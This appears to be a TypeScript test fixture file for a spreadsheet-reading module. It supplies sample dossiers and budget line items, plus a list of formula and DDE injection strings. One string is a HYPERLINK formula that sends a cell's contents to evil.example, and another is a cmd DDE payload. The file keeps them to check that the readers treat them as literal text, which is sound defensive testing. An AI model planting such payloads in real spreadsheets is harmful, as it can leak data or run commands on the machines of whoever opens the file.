/** Dossiers for the workbook tests. */
import { sampleDossier, type Dossier as CoreDossier } from '@govforms/core';
import type { BudgetData } from '../src/read-workbook.js';

type Item = Record<string, unknown>;
/** The sample dossier, its budget typed as the budget form's data. */
export type Dossier = CoreDossier & { budget: BudgetData };

export const GENERATED_AT = new Date('2026-11-25T06:30:00Z');

export function sample(): Dossier {
  return sampleDossier() as unknown as Dossier;
}

/** The sample dossier with its budget replaced. */
export function withItems(items: Item[], resources: Item[] = []): Dossier {
  return { ...sample(), budget: { items, dataResources: resources } as unknown as BudgetData };
}

/** `n` line items over all categories and two years; quantity × unit price where i is even. */
export function manyItems(n: number): Item[] {
  const categories = ['development', 'implementation', 'maintenance', 'training', 'supervision', 'other'];
  return Array.from({ length: n }, (_, i) => (i % 2 === 0
    ? { category: categories[i % 6], name: `费用明细 ${i + 1}`, year: 2024 + (i % 2), quantity: 2, unitPrice: 1234.56, amount: 2469.12 }
    : { category: categories[i % 6], name: `费用明细 ${i + 1}`, year: 2025, amount: 1000.01 }));
}

/** Text that must stay literal text in every reader (formula/DDE injection). */
export const INJECTION_PAYLOADS = [
  '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")',
  '+SUM(1,2)',
  '-2+3',
  '@cmd',
  "=cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
];

/** Non-BMP characters (CJK Extension B, emoji) must survive. */
export const NON_BMP = '𠀀𠮷 系统😀';
